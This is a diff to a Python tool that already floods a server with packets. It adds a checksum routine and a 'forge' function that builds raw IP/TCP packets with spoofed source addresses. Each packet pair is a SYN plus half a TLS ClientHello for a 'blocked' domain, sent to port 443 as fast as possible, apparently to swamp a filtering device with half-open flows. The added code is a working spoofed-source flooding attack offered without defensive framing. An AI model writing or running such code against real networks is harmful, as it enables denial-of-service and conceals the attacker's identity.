@@ -9,6 +9,7 @@ import random
 import select
 import socket
 import ssl
+import struct
 import subprocess
 import sys
 import tempfile
@@ -380,6 +381,47 @@ def flood(pipe, server, packets):
             sockets[at % len(sockets)].send(words)
             sent += 1
         except OSError:
+            pass
+    pipe.send(sent)
+    pipe.recv()
+
+
+def checksum(data):
+    data += b"\0" * (len(data) % 2)
+    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
+    while total >> 16:
+        total = (total & 0xffff) + (total >> 16)
+    return ~total & 0xffff
+
+
+def forge(pipe, server, connections):
+    """A SYN and half a ClientHello from one false address after the other, as
+    fast as they go: each looks like a flow whose name is still to come."""
+    SYN, PSH_ACK = 0x02, 0x18
+    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    hello = hello_for("www." + BLOCKED)
+    half, to = hello[:len(hello) // 2], socket.inet_aton(server)
+
+    def packet(number, flags, sequence, payload):
+        own = struct.pack("!BBH", 10, 84, number >> 15 & 0xffff)
+        ports = 1024 + (number & 0x7fff), 443
+        head = struct.pack("!HHIIBBHHH", *ports, sequence, 0, 0x50, flags,
+                           65000, 0, 0)
+        total = checksum(own + to + struct.pack(
+            "!HH", 6, len(head) + len(payload)) + head + payload)
+        return (struct.pack("!BBHHHBBH", 0x45, 0, 40 + len(payload), 1, 0x4000,
+                            64, 6, 0) + own + to + head[:16] +
+                struct.pack("!H", total) + head[18:] + payload)
+
+    sent = 0
+    for number in range(connections):
+        try:
+            for flags, sequence, payload in ((SYN, 1000, b""),
+                                             (PSH_ACK, 1001, half)):
+                out.sendto(packet(number, flags, sequence, payload),
+                           (server, 0))
+            sent += 1
+        except OSError:   # no room at the moment
             pass
     pipe.send(sent)
     pipe.recv()
